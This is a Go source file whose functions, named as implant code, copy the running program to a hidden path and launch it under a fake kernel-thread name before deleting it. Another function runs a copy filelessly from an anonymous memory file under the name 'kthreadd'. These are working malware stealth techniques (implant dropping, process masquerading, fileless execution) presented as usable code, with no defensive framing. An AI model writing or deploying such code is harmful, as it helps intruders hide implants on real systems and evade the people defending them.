package main

import (
	"fmt"
	"os"
	"path/filepath"
	"syscall"
	"unsafe"
)

// dropImplant copies this program to a hidden place, starts the copy under the
// name of a kernel thread, and deletes the file under it.
func dropImplant() error {
	content, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	path := "/tmp/.cache/kworkerd"
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		return err
	}
	if err := os.WriteFile(path, content, 0o700); err != nil {
		return err
	}
	defer os.Remove(path)
	return spawn(path, "[kworker/0:1]", "implant")
}

// runFromMemory starts a copy of this program out of an anonymous memory file,
// so that its executable has no path at all.
func runFromMemory() error {
	content, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	name := []byte("kthreadd\x00")
	fd, _, errno := syscall.Syscall(memfdCreate, uintptr(unsafe.Pointer(&name[0])), closeOnExec, 0)
	if errno != 0 {
		return fmt.Errorf("memfd_create: %w", errno)
	}
	file := os.NewFile(fd, "memfd")
	defer file.Close()
	if _, err := file.Write(content); err != nil {
		return err
	}
	return spawn(fmt.Sprintf("/proc/%d/fd/%d", os.Getpid(), fd), "[kthreadd]", "memfd")
}

const closeOnExec = 1 // MFD_CLOEXEC

// spawn starts a program that shows the given name in the process table. The
// reaper collects it; its output joins ours.
func spawn(path, shown string, arguments ...string) error {
	process, err := os.StartProcess(path, append([]string{shown}, arguments...), &os.ProcAttr{
		Env:   append(os.Environ(), "STAGE=2"),
		Files: []*os.File{nil, os.Stdout, os.Stderr},
	})
	if err != nil {
		return err
	}
	return process.Release()
}
